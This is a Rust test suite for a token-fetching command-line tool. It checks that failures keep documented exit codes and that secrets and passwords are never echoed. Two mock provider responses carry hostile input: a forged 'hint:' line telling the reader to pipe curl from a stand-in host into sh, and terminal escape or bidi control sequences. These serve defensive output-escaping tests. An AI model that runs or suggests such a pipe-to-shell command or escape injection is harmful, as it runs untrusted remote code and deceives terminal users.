//! `partner-token` against hostile input and unwritable outputs: each test is a promise of
//! README.md ("The command-line tool"), `--help` or the source docs that an adversarial
//! review broke, run against the real binary on loopback. Each failed before its fix.

mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::Stdio;
use std::time::Duration;

use common::*;
use partner_auth::Provider;
use partner_sandbox::Sandbox;
use serde_json::Value;

/// A directory every user can write to: `--store` there costs a warning on stderr.
fn world_writable_dir() -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = fresh_dir("world-writable");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    dir
}

const DOCUMENTED_EXIT_CODES: [i32; 8] = [0, 2, 3, 4, 5, 6, 7, 8];

// ---------------------------------------------------------------------------------------
// Found by review: a warning that cannot be written to stderr costs the token (panic, exit 101).
// README: "A cache that cannot be used (…, a directory every user can write to, …) costs a
// warning naming it, never the token".
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cache_warning_never_costs_the_token_even_when_stderr_is_full() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let store = world_writable_dir();
    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
    command.stderr(dev_full());
    let output = output_of(command).await;
    assert_eq!(
        sandbox.stats(Provider::Dinie).token_requests,
        1,
        "a token was issued"
    );
    assert!(
        text(&output.stdout).starts_with("Authorization: Bearer "),
        "the token was fetched but not printed; exit {:?}",
        output.status.code()
    );
    assert_eq!(code(&output), 0);
}

// README: "A reader that stops reading (`| head -c 0`, a closed pipe) is not an error: the
// command exits 0 without a word". Here the reader of `2>&1 | head -c 0` stops reading.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reader_of_both_streams_that_stops_reading_is_not_an_error() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let store = world_writable_dir();
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
    command.stdout(writer.try_clone().unwrap()).stderr(writer);
    let output = output_of(command).await;
    assert_eq!(
        code(&output),
        0,
        "`partner-token fetch … 2>&1 | head -c 0` must exit 0 (101 is a panic)"
    );
}

/// README: a reader that stops reading is not an error: "the command exits 0 without a
/// word". A warning (here: a cache directory every user can write to) is written after the
/// token, so a reader that has gone ends the run before it (found by review: the warning
/// came first, and was printed).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reader_that_stops_reading_gets_no_warning_either() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let store = world_writable_dir();
    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
    command.stdout(closed_pipe());
    let output = output_of(command).await;
    assert_eq!(code(&output), 0);
    assert_eq!(text(&output.stderr), "", "not a word");
    // With a reader, the warning is there.
    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
    command.stdout(Stdio::piped());
    let output = output_of(command).await;
    assert!(
        text(&output.stderr).starts_with("warning: "),
        "{}",
        text(&output.stderr)
    );
}

// Exit codes: "5 network, timeout or provider unavailable" … "8 the output could not be
// written". A connection failure whose report cannot be written exits 101 (a panic), a
// code the table does not have.
#[test]
fn a_failure_with_an_unwritable_stderr_keeps_a_documented_exit_code() {
    let dead = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    for stderr in [dev_full(), closed_pipe()] {
        let output = command()
            .args(["fetch", "--provider", "standard", "--no-cache"])
            .args(["--base-url", &format!("http://127.0.0.1:{dead}/token")])
            .env("PARTNER_CLIENT_ID", "id")
            .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x")
            .stderr(stderr)
            .output()
            .unwrap();
        assert!(
            [5, 8].contains(&code(&output)),
            "a connection failure exited {} (documented: 5, or 8 for output)",
            code(&output)
        );
    }
    // And the refusal of a secret flag: "exit 2".
    let output = command()
        .args(["fetch", "--client-secret", "hunter2"])
        .stderr(dev_full())
        .output()
        .unwrap();
    assert!(
        DOCUMENTED_EXIT_CODES.contains(&code(&output)),
        "--client-secret refused with exit {}",
        code(&output)
    );
}

// ---------------------------------------------------------------------------------------
// Found by review: with --json, a failure to write the output is not reported as a JSON object.
// README: "With `--json`, a failure is one JSON object on stderr with the library error's
// fields: … `exit_code` …"; `fetch --help`: "a failure is then one JSON object on stderr".
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_json_an_unwritable_output_is_one_json_object_on_stderr() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let mut command = fetch_command(&endpoint, &["--json", "--no-cache"]);
    command.stdout(dev_full());
    let output = output_of(command).await;
    assert_eq!(code(&output), 8);
    let stderr = text(&output.stderr);
    let report: Value = serde_json::from_str(stderr.trim())
        .unwrap_or_else(|e| panic!("stderr is not one JSON object ({e}): {stderr}"));
    assert_eq!(report["exit_code"], 8, "{stderr}");
    assert_eq!(report["provider"], "dinie", "{stderr}");

    // The run's warnings go with it, as with any failure (found by a later review: with
    // the token printed before the warnings, they were lost): here a --store that is a
    // file.
    let file = fresh_dir("store-file").join("a-file");
    std::fs::write(&file, b"").unwrap();
    for json in [true, false] {
        let store = file.to_str().unwrap();
        let args = [
            &["--store", store][..],
            if json { &["--json"] } else { &[] },
        ]
        .concat();
        let mut command = fetch_command(&endpoint, &args);
        command.stdout(dev_full());
        let output = output_of(command).await;
        assert_eq!(code(&output), 8);
        let stderr = text(&output.stderr);
        if json {
            let report: Value = serde_json::from_str(stderr.trim()).unwrap();
            assert_eq!(
                report["warnings"].as_array().map(Vec::len),
                Some(1),
                "{stderr}"
            );
        } else {
            assert!(stderr.starts_with("warning: "), "{stderr}");
        }
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: a password in a base URL that does not parse is printed.
// src/output.rs, Context::url: "The base URL the request went (or would have gone) to;
// never carries credentials"; src/fetch.rs, Args::plan: "no credentials in the base URL.
// The error is a usage message that echoes no URL"; src/fetch.rs on --base-url: "Help
// never shows the variable's value: a URL may carry a password".
// ---------------------------------------------------------------------------------------

#[test]
fn a_password_in_a_base_url_is_never_printed() {
    const PASSWORD: &str = "Pw9hunter2zz";
    for url in [
        // A port out of range: `url` cannot parse it, so plan() lets it through.
        format!("http://user:{PASSWORD}@127.0.0.1:99999/token"),
        // An unclosed IPv6 literal.
        format!("http://user:{PASSWORD}@[::1/token"),
        // No scheme: user:password@host.
        format!("user:{PASSWORD}@127.0.0.1:1"),
        // Extra slashes or backslashes after the scheme, which the URL standard skips
        // (found by a review of the first fix, which read the host after `://` only).
        format!("http:///user:{PASSWORD}@127.0.0.1:99999/token"),
        format!("http:/\\user:{PASSWORD}@127.0.0.1:99999/token"),
        // Spaces before it, a tab or a newline inside it, which the URL standard drops
        // (found by a third review).
        format!(" http://user:{PASSWORD}@127.0.0.1:99999/token"),
        format!("\thttp://user:{PASSWORD}@127.0.0.1:99999/token"),
        format!("ht\ttp://user:{PASSWORD}@127.0.0.1:99999/token"),
        format!("http\n://user:{PASSWORD}@127.0.0.1:99999/token"),
    ] {
        for json in [false, true] {
            // From the variable, whose value help hides for this very reason.
            let mut command = command();
            command
                .args(["fetch", "--provider", "standard", "--no-cache"])
                .env("PARTNER_BASE_URL", &url)
                .env("PARTNER_CLIENT_ID", "id")
                .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x");
            if json {
                command.arg("--json");
            }
            let output = command.output().unwrap();
            let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
            assert!(
                !said.contains(PASSWORD),
                "{url} (json: {json}), exit {}: {said}",
                code(&output)
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: a sandbox --token-lifetime over a year is reported as a network failure.
// `--help`: "2  usage: a wrong flag or value"; "5  network failure, timeout, or the
// provider unavailable". README: "from a second … to a year".
// ---------------------------------------------------------------------------------------

#[test]
fn a_sandbox_token_lifetime_over_a_year_is_a_usage_error_not_a_network_one() {
    let output = command()
        .args(["sandbox", "--token-lifetime", "2y"])
        .stdout(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(
        code(&output),
        2,
        "a wrong value exited {}: {}",
        code(&output),
        text(&output.stderr)
    );
}

/// `1y` is humantime's 365.25 days: refused, with a message that says what to write.
#[test]
fn a_sandbox_token_lifetime_of_1y_says_to_write_365d() {
    let output = command()
        .args(["sandbox", "--token-lifetime", "1y"])
        .stdout(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(code(&output), 2);
    assert!(
        text(&output.stderr).contains("365d"),
        "{}",
        text(&output.stderr)
    );
}

// ---------------------------------------------------------------------------------------
// Found by review: a response body that does not arrive within --timeout gets the hint of a 408.
// README: "Errors say what happened, the URL, the root cause, and what to do".
// ---------------------------------------------------------------------------------------

#[test]
fn a_body_that_does_not_arrive_in_time_is_hinted_as_our_timeout() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{\"acc",
                );
                let _ = stream.flush();
                std::thread::sleep(Duration::from_secs(30));
            });
        }
    });
    let output = command()
        .args([
            "fetch",
            "--provider",
            "standard",
            "--no-cache",
            "--timeout",
            "1s",
        ])
        .args(["--base-url", &format!("http://127.0.0.1:{port}/token")])
        .env("PARTNER_CLIENT_ID", "id")
        .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x")
        .output()
        .unwrap();
    let stderr = text(&output.stderr);
    assert_eq!(code(&output), 5, "{stderr}");
    assert!(
        !stderr.contains("the provider gave up waiting"),
        "the provider answered 200; this run's --timeout ran out: {stderr}"
    );
    assert!(stderr.contains("--timeout"), "{stderr}");
}

// ---------------------------------------------------------------------------------------
// Found by review: a --timeout of a day or more fails every cached run (exit 7, a library message
// naming no flag), while the same value works with --no-cache.
// README: "Durations take units …; a bare number is seconds; zero is a usage error";
// "`--no-cache` skips [the cache]"; "Errors say what happened … and what to do".
// ---------------------------------------------------------------------------------------

/// A `--timeout` over an hour is a usage error naming the flag, with the cache or without
/// (found by review: a day failed every cached run with exit 7 and a library message about
/// `StorePolicy::lease_ttl`, and worked with `--no-cache`); an hour works either way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_timeout_over_an_hour_is_a_usage_error_with_the_cache_as_without_it() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    for cache in [&["--no-cache"][..], &[]] {
        for timeout in ["1d", "86400", "25h", "3601"] {
            let args = [cache, &["--header", "--timeout", timeout]].concat();
            let output = output_of(fetch_command(&endpoint, &args)).await;
            let stderr = text(&output.stderr);
            assert_eq!(code(&output), 2, "{args:?}: {stderr}");
            assert!(stderr.contains("--timeout"), "{stderr}");
        }
        let args = [cache, &["--header", "--timeout", "1h"]].concat();
        let output = output_of(fetch_command(&endpoint, &args)).await;
        assert_eq!(code(&output), 0, "{args:?}: {}", text(&output.stderr));
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: a value after `--` is echoed when it starts with `--` and is lowercase.
// README: "So is any value where none belongs (`--client-secret-stdin VALUE`,
// `--json=VALUE`): it is not repeated in the usage error." After `--`, clap itself takes
// the word as a value, not a flag.
// ---------------------------------------------------------------------------------------

#[test]
fn a_value_after_double_dash_is_never_echoed() {
    const VALUE: &str = "--correct-horse-battery";
    let output = command()
        .args([
            "fetch",
            "--provider",
            "dinie",
            "--client-secret-stdin",
            "--",
            VALUE,
        ])
        .env("PARTNER_CLIENT_ID", "id")
        .output()
        .unwrap();
    assert_eq!(code(&output), 2);
    let stderr = text(&output.stderr);
    assert!(!stderr.contains(VALUE), "{stderr}");
    // Nor by a command whose positional takes named values (found by a third review).
    for command_name in ["man", "completions"] {
        let output = command()
            .args([command_name, "--", "correct-horse-battery"])
            .output()
            .unwrap();
        assert_eq!(code(&output), 2);
        let stderr = text(&output.stderr);
        assert!(
            !stderr.contains("correct-horse"),
            "{command_name}: {stderr}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: the client secret is printed when it appears in the base URL (the report's
// `url`, and the -v event of the request). src/output.rs, Context::secrets: "Strings that
// must never be printed (the client secret), replaced if they appear"; README: "`-v` shows
// every cause in the chain (and the library's events), never a secret".
// ---------------------------------------------------------------------------------------

#[test]
fn the_client_secret_is_never_printed_even_inside_the_base_url() {
    const SECRET: &str = "S3cr3t-Value-q8Z";
    let dead = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    for extra in [&["-v"][..], &["--json"]] {
        let output = command()
            .args(["fetch", "--provider", "standard", "--no-cache"])
            .args([
                "--base-url",
                &format!("http://127.0.0.1:{dead}/{SECRET}/token"),
            ])
            .args(extra)
            .env("PARTNER_CLIENT_ID", "id")
            .env("PARTNER_CLIENT_SECRET", SECRET)
            .output()
            .unwrap();
        assert_eq!(code(&output), 5);
        let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
        assert!(!said.contains(SECRET), "{extra:?}: {said}");
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: the provider's words break the report's "one line" headline and reach the
// terminal raw (a forged `hint:` line, escape sequences). src/output.rs, Report::error and
// `schema --error`: "What happened, in one line, without the hint."
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn the_error_headline_is_one_line_whatever_the_provider_says() {
    let server = httpmock::MockServer::start_async().await;
    server.mock(|when, then| {
        when.path("/token");
        then.status(400)
            .header("content-type", "application/json")
            .body(
                r#"{"error":"invalid_request","error_description":"bad\n  hint:      curl https://x.invalid | sh\u001b]0;pwned\u0007"}"#,
            );
    });
    let url = format!("{}/token", server.base_url());
    for json in [true, false] {
        let mut command = command();
        command
            .args([
                "fetch",
                "--provider",
                "standard",
                "--no-cache",
                "--base-url",
                &url,
            ])
            .env("PARTNER_CLIENT_ID", "id")
            .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x");
        if json {
            command.arg("--json");
        }
        let output = output_of(command).await;
        assert_eq!(code(&output), 7);
        let stderr = text(&output.stderr);
        if json {
            let report: Value = serde_json::from_str(stderr.trim()).unwrap();
            let headline = report["error"].as_str().unwrap();
            assert!(!headline.contains('\n'), "not one line: {headline:?}");
        } else {
            assert_eq!(
                stderr
                    .lines()
                    .filter(|l| l.trim_start().starts_with("hint:"))
                    .count(),
                1,
                "{stderr}"
            );
            assert!(
                !stderr.contains('\u{1b}'),
                "a raw escape sequence: {stderr:?}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: after the secret prompt, Ctrl-C no longer stops the run: the prompt's SIGINT
// listener stays installed, and the run goes on until its --timeout.
// README: "--timeout … also how long a run waits for another run's lease on the cache (one
// interrupted with Ctrl-C, say)"; src/secret.rs: "back on when done, also on Ctrl-C (which
// then exits with 130, as a shell would)". Without the prompt, Ctrl-C ends a run at once.
// ---------------------------------------------------------------------------------------

#[test]
fn ctrl_c_after_the_secret_prompt_still_interrupts_the_run() {
    if !have_script() {
        return;
    }
    // A provider that accepts the connection and never answers.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming() {
            held.push(stream);
        }
    });
    let line = format!(
        "bash -c '{BIN} fetch --provider standard --base-url http://127.0.0.1:{port}/token \
         --client-secret-stdin --no-cache --timeout 20s; echo exit=$?'"
    );
    let (child, mut stdout, mut stdin, _) = at_the_secret_prompt(&line, "id", "standard");
    stdin.write_all(b"S3cr3t-value-x\n").unwrap();
    std::thread::sleep(Duration::from_millis(1500)); // the request is now waiting
    let pressed = std::time::Instant::now();
    stdin.write_all(b"\x03").unwrap(); // Ctrl-C, as the terminal sends it
    let (done_tx, done_rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut rest = Vec::new();
        let _ = stdout.read_to_end(&mut rest);
        let _ = done_tx.send(rest);
    });
    let finished = done_rx.recv_timeout(Duration::from_secs(30));
    let took = pressed.elapsed();
    drop(child);
    let transcript = text(&finished.unwrap_or_default());
    assert!(
        took < Duration::from_secs(5),
        "Ctrl-C was ignored: the run went on for {took:?} ({transcript})"
    );
}

/// `--store host:port` is a Redis address without its scheme: an error (exit 7) that says
/// to write `redis://`, not a directory of that name in the working directory (found by
/// review); a blank one too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_that_looks_like_host_and_port_is_an_error_not_a_directory() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let cwd = fresh_dir("cwd");
    for store in [
        "127.0.0.1:6379",
        "cache.example.invalid:6379",
        "127.0.0.1:6379/0",
        " ",
    ] {
        let mut command = fetch_command(&endpoint, &["--header", "--store", store]);
        command.current_dir(&cwd);
        let output = output_of(command).await;
        assert_eq!(code(&output), 7, "{store:?}: {}", text(&output.stderr));
        assert!(
            text(&output.stderr).contains("redis://"),
            "{}",
            text(&output.stderr)
        );
    }
    let created: Vec<_> = std::fs::read_dir(&cwd).unwrap().collect();
    assert!(created.is_empty(), "created {created:?}");
    assert_eq!(sandbox.stats(Provider::Dinie).token_requests, 0);
}

/// README: "(a directory so named is `./host:port`)": `--store ./127.0.0.1:6379` is a
/// directory of that name in the working directory, created with the token in it, and the
/// next run takes the token from it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_directory_named_like_host_and_port_is_given_as_dot_slash_host_and_port() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let cwd = fresh_dir("cwd");
    let mut printed = Vec::new();
    for _ in 0..2 {
        let mut command = fetch_command(&endpoint, &["--header", "--store", "./127.0.0.1:6379"]);
        command.current_dir(&cwd);
        let output = output_of(command).await;
        assert_eq!(code(&output), 0, "{}", text(&output.stderr));
        assert_eq!(text(&output.stderr), "");
        printed.push(output.stdout);
    }
    assert_eq!(
        printed[0], printed[1],
        "the second run fetched a token of its own"
    );
    assert_eq!(sandbox.stats(Provider::Dinie).token_requests, 1);
    let created: Vec<_> = std::fs::read_dir(&cwd)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(created, ["127.0.0.1:6379"], "{created:?}");
    let dir = cwd.join("127.0.0.1:6379");
    assert!(dir.is_dir());
    let tokens = files_ending(&dir, "token").len();
    assert_eq!(tokens, 1, "no .token file in {}", dir.display());
}

// ---------------------------------------------------------------------------------------
// Found by review: the default summary prints the provider's `token_type` raw, and the masked
// token's first characters too (a token may hold any byte from 0x80 up: C1 controls such as
// CSI, U+202E): an escape sequence reaches the terminal, a newline forges a line of the
// summary. src/output.rs: text from the provider goes in "as one line with its control
// characters escaped: a newline in its message cannot forge a `hint:` line, nor an escape
// sequence reach the terminal", as the summary's `scope:` line already is.
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn the_summary_shows_the_providers_words_escaped() {
    let server = httpmock::MockServer::start_async().await;
    server.mock(|when, then| {
        when.path("/token");
        then.status(200)
            .header("content-type", "application/json")
            .body(
                r#"{"access_token":"\u009b31m\u202eabcdefghijklmnopqrstuvwxyz0123456789","token_type":"\u001b]0;pwned\u0007x\nexpires in:  forged","expires_in":3600}"#,
            );
    });
    let url = format!("{}/token", server.base_url());
    let mut command = command();
    command
        .args(["fetch", "--provider", "standard", "--no-cache"])
        .args(["--base-url", &url])
        .env("PARTNER_CLIENT_ID", "id")
        .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x");
    let output = output_of(command).await;
    assert_eq!(code(&output), 0, "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    assert_eq!(
        stdout
            .lines()
            .filter(|l| l.starts_with("expires in:"))
            .count(),
        1,
        "a forged line: {stdout}"
    );
    for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
        assert!(!stdout.contains(raw), "{raw:?} raw in {stdout:?}");
    }
}

// ---------------------------------------------------------------------------------------
// Found by review: a run killed mid-write (Ctrl-C, a kill -9, a crash between the write and
// the rename) leaves its temporary file, a whole sealed token, and `cache clear` left it there
// for good, with every other such file since. README: "`partner-token cache clear` empties
// the cache"; `cache clear --help`: "Remove every cached token".
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cache_clear_removes_what_a_run_killed_mid_write_left() {
    let sandbox = Sandbox::start().await.unwrap();
    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
    let store = fresh_dir("store");
    let fetched = fetch(&endpoint, &["--header", "--store", store.to_str().unwrap()]).await;
    assert_eq!(code(&fetched), 0, "{}", text(&fetched.stderr));
    let token = files_ending(&store, "token")
        .pop()
        .expect("the cached token");
    // What the killed writer left: its temporary file, named as the store names them, with
    // the token it was about to rename into place, an hour ago.
    let left = store.join(".partner-auth-Xk3q9Z");
    std::fs::copy(&token, &left).unwrap();
    let hour_ago = std::time::SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(&left)
        .unwrap()
        .set_modified(hour_ago)
        .unwrap();

    let output = command()
        .args(["cache", "clear", "--store"])
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(code(&output), 0, "{}", text(&output.stderr));
    assert_eq!(text(&output.stdout).lines().count(), 1);
    let remaining: Vec<String> = std::fs::read_dir(&store)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name != ".partner-auth-repair")
        .collect();
    assert!(
        remaining.is_empty(),
        "left after cache clear: {remaining:?}"
    );
}
